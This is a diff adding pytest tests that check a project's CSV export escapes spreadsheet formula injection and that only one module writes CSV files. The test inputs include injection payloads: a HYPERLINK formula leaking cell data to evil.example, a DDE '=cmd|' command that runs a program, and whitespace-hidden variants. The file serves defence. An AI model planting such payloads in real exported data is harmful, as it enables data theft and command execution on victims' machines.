@@ -1,0 +1,58 @@
+"""No cell of a sheet is run by a spreadsheet, and one place writes them all."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+import legation
+from legation.services.spreadsheet import harmless, sheet
+
+SOURCE = Path(legation.__file__).parent
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "=cmd|'/c calc'!A1",
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\xa0=1",
+        "\ufeff=1",
+        "\uff1d1",
+        "|calc",
+        "\r\n=1",
+        "%0A=1",
+    ],
+)
+def test_a_cell_never_begins_as_a_formula(cell: str) -> None:
+    # As it is read by a program that ends lines at any sign of one.
+    [[written, other]] = csv.reader(io.StringIO(sheet([[cell, "patrol"]]), newline=""))
+    assert written == "'" + cell.replace("\r\n", "\n").replace("\r", "\n")
+    assert other == "patrol"
+
+
+def test_other_cells_stay_as_they_are() -> None:
+    for cell in ("", "CONFIDENTIAL", "15BELISAR12", "a=b", "2015-01-12", "(C)", "# SECRET"):
+        assert harmless(cell) == cell
+
+
+def test_a_cell_begins_no_row() -> None:
+    for end in ("\r", "\n", "\r\n"):
+        written = sheet([[f"a{end}=1", "b"]])
+        assert list(csv.reader(io.StringIO(written, newline=""))) == [["a\n=1", "b"]]
+
+
+def test_nothing_else_writes_sheets() -> None:
+    writing = [str(path.relative_to(SOURCE)) for path in SOURCE.rglob("*.py") if "csv.writer(" in path.read_text()]
+    assert writing == ["services/spreadsheet.py"]
+    assert not [path for path in SOURCE.rglob("*.py") if "DictWriter" in path.read_text()]
